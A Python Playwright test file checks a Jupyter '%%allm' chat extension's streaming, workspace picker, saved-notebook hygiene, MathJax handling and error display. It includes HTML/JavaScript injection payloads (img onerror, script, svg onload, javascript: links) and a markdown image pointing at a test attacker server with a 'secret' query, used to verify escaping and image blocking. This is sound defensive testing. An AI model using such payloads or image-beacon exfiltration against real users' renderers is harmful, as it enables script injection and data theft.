"""``%%allm`` in a real JupyterLab and Jupyter Notebook 7: streaming in place, no script from
answers, literal text that MathJax leaves alone, images that load only when asked for, the picker;
and in JupyterLab, saving.

Notebook 7 renders notebooks with JupyterLab's widgets in its own shell (one notebook per page,
no status bar, no tabs), so the same tests and selectors serve both; what differs is how the
server starts and how the page tells that the kernel is idle (``lab.NOTEBOOK7``).
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from itertools import dropwhile

import httpx
import nbformat
import pytest
from hostile import HostileServer, canned, http_response
from playwright.sync_api import Locator, expect

from allm_jupyter.testing import StandInServer, scenarios
from allm_jupyter.testing.data import SEED_WORKSPACES

from .lab import JUPYTERLAB, NOTEBOOK7, Notebook

OpenNotebook = Callable[[Sequence[str]], Notebook]
BOTH = pytest.mark.parametrize(
    "frontend", [JUPYTERLAB, NOTEBOOK7], ids=["lab", "notebook7"], indirect=True, scope="module"
)
LAB_ONLY = pytest.mark.parametrize(
    "frontend", [JUPYTERLAB], ids=["lab"], indirect=True, scope="module"
)
"""For what only Lab has (its tab's unsaved marker); shares the ``[lab]`` server with ``BOTH``."""
LOAD = "%load_ext allm_jupyter"

ANSWER = (
    "On your first day you get a laptop, a badge and your accounts. Your buddy meets you at "
    "nine for the lab tour, and during the first week you pair on one real ticket."
)
HANDBOOK = scenarios.source(
    "team-handbook-onboarding.md",
    "New team members get their laptop, building badge and accounts on their first day.",
    url="https://example.org/handbook#onboarding",
)

# Records, after every DOM change in a cell's output area, how many outputs it has and (when it
# changed) the rendered text, so the test sees every state the user saw.
RECORD_OUTPUTS = """area => {
    const record = {counts: [], texts: []};
    new MutationObserver(() => {
        record.counts.push(area.querySelectorAll(':scope > .jp-OutputArea-child').length);
        const markdown = area.querySelector('.jp-RenderedMarkdown');
        const text = markdown ? markdown.textContent : null;
        if (text !== null && text !== record.texts.at(-1)) record.texts.push(text);
    }).observe(area, {childList: true, subtree: true, characterData: true});
    area.allmRecord = record;
}"""

PAYLOADS = (
    '<img src=x onerror="window.__allm_pwned=1">',
    "<script>window.__allm_pwned=2</script>",
    '<svg onload="window.__allm_pwned=3">',
    "[click](javascript:window.__allm_pwned=4)",
    '<iframe srcdoc="<script>parent.__allm_pwned=5</script>">',
)
HOSTILE_SOURCE = scenarios.source(
    '<img src=x onerror="window.__allm_pwned=6">.md',
    '<img src=x onerror="window.__allm_pwned=7"> is quoted from the document.',
    url="javascript:window.__allm_pwned=8",
)
CONTROL = (
    "from IPython.display import Markdown, display; "
    "display(Markdown('<img src=x onerror=\"window.__allm_control=1\">'))"
)
DANGEROUS = 'img[onerror], script, iframe, svg[onload], a[href^="javascript:"]'
EVENT_HANDLERS = """area => [...area.querySelectorAll('*')].flatMap(
    element => [...element.attributes].filter(a => a.name.startsWith('on')).map(
        a => `${element.localName}[${a.name}]`))"""


def rendered_answer(output: Locator) -> Locator:
    return output.locator(".jp-RenderedMarkdown")


@BOTH
def test_answer_streams_into_one_output(
    open_notebook: OpenNotebook, standin: StandInServer
) -> None:
    notebook = open_notebook([LOAD, "%%allm workspace=research\nHow does onboarding work?"])
    notebook.run(0)
    output = notebook.output(1)
    output.evaluate(RECORD_OUTPUTS)
    standin.queue(scenarios.trickle(ANSWER, delay=0.1, sources=[HANDBOOK]))

    notebook.run(1)

    record = output.evaluate("area => area.allmRecord")
    shown = list(dropwhile(lambda count: count == 0, record["counts"]))
    assert shown and set(shown) == {1}, f"not exactly one output at all times: {shown}"
    *partial, final = record["texts"]
    growing = [text.strip() for text in partial if text.startswith(ANSWER.split()[0])]
    assert len(growing) >= 5, f"the answer did not grow in place: {record['texts']}"
    assert all(ANSWER.startswith(text) for text in growing), growing
    assert [len(text) for text in growing] == sorted({len(text) for text in growing})
    assert "Sources (1)" in final

    answer = rendered_answer(output)
    expect(answer).to_have_count(1)
    expect(answer.locator("p").first).to_have_text(ANSWER)
    sources = answer.locator("details")
    expect(sources.locator("summary")).to_have_text("Sources (1)")
    expect(sources.locator("a")).to_have_attribute("href", HANDBOOK["url"])
    expect(answer.locator("p > em")).to_contain_text(scenarios.MODEL)


@BOTH
def test_answer_markup_never_runs_script(
    open_notebook: OpenNotebook, standin: StandInServer
) -> None:
    notebook = open_notebook([LOAD, "%%allm workspace=research\nSummarise the page.", CONTROL])
    notebook.run(0)
    standin.queue(scenarios.normal(" ".join(PAYLOADS), sources=[HOSTILE_SOURCE]))
    notebook.run(1)
    answer = rendered_answer(notebook.output(1))
    expect(answer.locator("details summary")).to_have_text("Sources (1)")

    # The control: the same <img onerror> displayed as Markdown by plain Python code runs, so
    # JupyterLab does not sanitize session output and only our escaping protects the answer. It
    # also makes the wait: that image failed to load, so would any in the answer have.
    notebook.run(2)
    notebook.page.wait_for_function("window.__allm_control === 1")

    assert notebook.page.evaluate("typeof window.__allm_pwned") == "undefined"
    expect(notebook.output(1).locator(DANGEROUS)).to_have_count(0)
    assert notebook.output(1).evaluate(EVENT_HANDLERS) == []
    for markup in (*PAYLOADS[:3], PAYLOADS[4], HOSTILE_SOURCE["title"]):
        expect(answer).to_contain_text(markup)  # shown as text, not dropped


@BOTH
def test_picker_choice_is_what_the_next_cell_asks(
    open_notebook: OpenNotebook, standin: StandInServer
) -> None:
    notebook = open_notebook([LOAD, "%allm pick", "%%allm\nWho is the mascot?"])
    notebook.run(0)
    notebook.run(1)
    picker = notebook.output(1)
    workspaces = picker.locator(".widget-dropdown", has_text="Workspace").locator("select")
    threads = picker.locator(".widget-dropdown", has_text="Thread").locator("select")
    expect(workspaces.locator("option")).to_have_text([w.name for w in SEED_WORKSPACES])
    expect(workspaces).to_have_value("Research")  # the environment's default workspace
    expect(threads.locator("option")).to_contain_text(["Onboarding questions"])

    workspaces.select_option(label="Scratchpad")
    # The kernel took the pick when the picker redraws the threads for the new workspace.
    expect(threads.locator("option")).to_have_text(["default chat", "new thread…"])
    standin.queue(scenarios.normal("Packet, a blue heron."))
    notebook.run(2)

    assert standin.chat_requests()[-1].path == "/api/v1/workspace/scratchpad/stream-chat"
    expect(rendered_answer(notebook.output(2)).locator("p").first).to_have_text(
        "Packet, a blue heron."
    )


@LAB_ONLY
def test_saved_notebook_holds_no_api_key(
    open_notebook: OpenNotebook, standin: StandInServer
) -> None:
    question = "What does the handbook say about onboarding?"
    cells = [LOAD, "%allm status", "%allm config", "%allm pick", f"%%allm\n{question}"]
    notebook = open_notebook(cells)
    notebook.run_all()
    notebook.save()

    saved = notebook.path.read_text(encoding="utf-8")
    leaked = standin.api_key in saved
    assert not leaked, f"the API key is in {notebook.path.name}"  # (never print the key itself)
    last = nbformat.reads(saved, as_version=4).cells[-1]
    assert last.outputs[0]["metadata"]["allm_jupyter"]["workspace"] == "research"
    assert standin.expected_reply("research", question) in last.outputs[0]["data"]["text/plain"]


# A 1x1 transparent PNG, what an exfiltrating "image" would return.
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082"
)


@BOTH
def test_literal_text_is_not_typeset_but_answers_keep_their_math(
    open_notebook: OpenNotebook, standin: StandInServer
) -> None:
    name = "Budget $5 to $10"
    title, snippet = "Costs $1 and $2.md", "From $3 to \\(4\\) a month."
    # A server of its own, so the shared one keeps exactly the seed workspaces.
    with StandInServer(api_key=standin.api_key) as own:
        created = httpx.post(
            f"{own.base_url}/api/v1/workspace/new",
            json={"name": name},
            headers={"Authorization": f"Bearer {own.api_key}"},
        )
        assert created.status_code == 200
        cells = [
            LOAD,
            f"%config AllmMagics.base_url = {own.base_url!r}",
            "%allm workspaces",
            "%%allm workspace=research\nArea?",
        ]
        notebook = open_notebook(cells)
        for index in range(3):
            notebook.run(index)
        own.queue(
            scenarios.normal("The area is $x^2$ here.", sources=[scenarios.source(title, snippet)])
        )
        notebook.run(3)

    answer = rendered_answer(notebook.output(3))
    # The answer's math is typeset: MathJax ran, on this output and (typesetting goes in order)
    # on the table above it.
    expect(answer.locator("p").first.locator("mjx-container")).to_have_count(1)
    expect(answer.locator("details li strong")).to_have_text(title)
    expect(answer.locator("details li")).to_contain_text(snippet)
    expect(answer.locator("details mjx-container")).to_have_count(0)
    table = rendered_answer(notebook.output(2))
    row = table.locator("tr", has_text="Budget").locator("td")
    expect(row.nth(1)).to_have_text(name)
    expect(row.nth(2)).to_have_text(created.json()["workspace"]["slug"])
    expect(table.locator("mjx-container")).to_have_count(0)


@BOTH
def test_images_load_only_when_show_images_is_on(
    open_notebook: OpenNotebook, standin: StandInServer
) -> None:
    pixel = canned(http_response(200, PIXEL, "image/png"))
    with HostileServer({"/pixel.png": pixel, "/control.png": pixel}) as attacker:
        image = f"![x]({attacker.base_url}/pixel.png?q=secret)"
        control = (
            "from IPython.display import Markdown, display; "
            f"display(Markdown('![c]({attacker.base_url}/control.png)'))"
        )
        ask = "%%allm workspace=research\nShow the chart."
        cells = [LOAD, ask, control, "%config AllmMagics.show_images = True", ask]
        notebook = open_notebook(cells)
        notebook.run(0)
        standin.queue(scenarios.normal(f"Here: {image} done."))
        notebook.run(1)
        # The control: an image displayed after the answer does load, so one in the answer would
        # have been requested (earlier) by now.
        notebook.run(2)
        assert attacker.wait_for_request("/control.png")
        assert not attacker.requested("/pixel.png")
        first = rendered_answer(notebook.output(1))
        expect(first.locator("img")).to_have_count(0)
        expect(first.locator('a[href*="/pixel.png"]')).to_have_text("🖼 x")

        notebook.run(3)
        standin.queue(scenarios.normal(f"Here: {image} done."))
        notebook.run(4)
        assert attacker.wait_for_request("/pixel.png")
        expect(rendered_answer(notebook.output(4)).locator('img[src*="/pixel.png"]')).to_have_count(
            1
        )


@BOTH
def test_a_failing_answer_says_its_error_once(
    open_notebook: OpenNotebook, standin: StandInServer
) -> None:
    notebook = open_notebook([LOAD, "%%allm workspace=research\nWhat is new?"])
    notebook.run(0)
    standin.queue(scenarios.midstream_abort("Half an answer ", "provider died"))
    notebook.run(1)
    output = notebook.output(1)
    expect(
        output.locator(".jp-RenderedText[data-mime-type='application/vnd.jupyter.stderr']")
    ).to_contain_text("ChatAbortedError: The server stopped the answer: provider died.")
    expect(rendered_answer(output)).to_contain_text("Half an answer")
    expect(rendered_answer(output)).to_contain_text("Partial answer")
    shown = output.inner_text()
    assert shown.count("provider died") == 1, f"said more than once: {shown!r}"
